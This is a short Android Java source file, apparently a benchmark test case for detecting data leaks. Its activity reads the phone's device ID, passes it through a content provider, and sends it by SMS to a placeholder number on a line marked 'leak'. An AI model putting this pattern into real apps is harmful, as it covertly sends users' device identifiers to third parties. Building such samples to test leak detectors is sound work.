package spy;

import android.app.Activity;
import android.content.ContentValues;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class ProviderUser extends Activity {
    static final Uri TABLE = Uri.parse("content://spy.provider/ids");

    @Override
    protected void onCreate(Bundle state) {
        ContentValues values = new ContentValues();
        values.put("id", ((TelephonyManager) getSystemService("phone")).getDeviceId());
        getContentResolver().insert(TABLE, values);
    }

    @Override
    protected void onResume() {
        Cursor cursor = getContentResolver().query(TABLE, null, null, null, null);
        if (cursor.moveToFirst()) SmsManager.getDefault().sendTextMessage("+155501", null, cursor.getString(0), null, null); // leak
    }
}
